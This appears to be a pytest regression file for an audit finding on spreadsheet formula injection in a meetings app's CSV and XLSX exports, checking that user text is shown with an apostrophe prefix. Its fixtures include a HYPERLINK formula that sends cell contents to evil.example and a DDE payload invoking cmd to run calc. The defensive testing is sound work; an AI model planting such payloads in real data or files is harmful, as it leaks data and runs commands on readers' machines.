"""Finding 12.4: what members type never runs as a spreadsheet formula in an export.

A member's absence reason ``=HYPERLINK("http://…"&A1, …)`` and names beginning with ``=``, ``+``,
``-``, ``@``, tab or CR reached ``attendance.csv`` unchanged, and the secretary and the auditor
open that file in Excel. Every CSV and XLSX export now shows such text as text.
"""

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from meetings.organisation.members import Member
from meetings.organisation.organisations import Organisation
from meetings.planning.absences import AbsenceRequest
from tests.support.web import post
from tests.support.world import add_meetings

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Xem chi tiết")'
NAMES = {"a1": "+Nguyễn Văn Ấn", "a3": "-Lê Hoàng Dũng", "a4": "@SUM(1+1)*cmd|' /C calc'!A0", "a2": "\tTrần Thị Bích Ngọc"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))


def test_attendance_csv_shows_a_formula_in_an_absence_reason_as_text(database, world, client_as):
    with database.session() as s:
        add_meetings(s, world, ("A",))
    meeting = world.meetings["A"]
    member = client_as("mem_a")
    assert post(member, f"/meetings/{meeting}/absence", {"reason": HYPERLINK}).status_code == 303
    with database.session() as s:
        for key, name in NAMES.items():
            s.get(Member, world.id(key)).full_name = name
        request_id = s.scalars(select(AbsenceRequest.id)).one()
    secretary = client_as("sec_a")
    assert post(secretary, f"/absences/{request_id}/decide", {"decision": "approve"}).status_code == 303

    for who in (secretary, client_as("aud_x")):
        r = who.get(f"/meetings/{meeting}/attendance.csv")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = cells_of(r.text)
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), cell
        text = "\n".join(",".join(row) for row in rows)
        # Shown, not dropped: the same text with an apostrophe in front.
        assert "'" + HYPERLINK in [cell for row in rows for cell in row]
        for name in NAMES.values():
            assert "'" + name in text


def test_audit_exports_show_formula_names_as_text(database, world, client_as):
    with database.session() as s:
        s.get(Organisation, world.id("B")).name = HYPERLINK
        s.get(Organisation, world.id("A")).name = "@Chi bộ thôn An Lạc"
    auditor = client_as("aud_x")
    rows = cells_of(auditor.get(f"/orgs/{world.id('X')}/audit.csv").text)
    names = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in names and "'@Chi bộ thôn An Lạc" in names
    assert not any(cell.startswith(FORMULA_STARTS) for cell in names)

    r = auditor.get(f"/orgs/{world.id('X')}/audit.xlsx")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula anywhere
    workbook = load_workbook(io.BytesIO(r.content))
    found = [c for ws in workbook for row in ws.iter_rows() for c in row if c.value == HYPERLINK]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
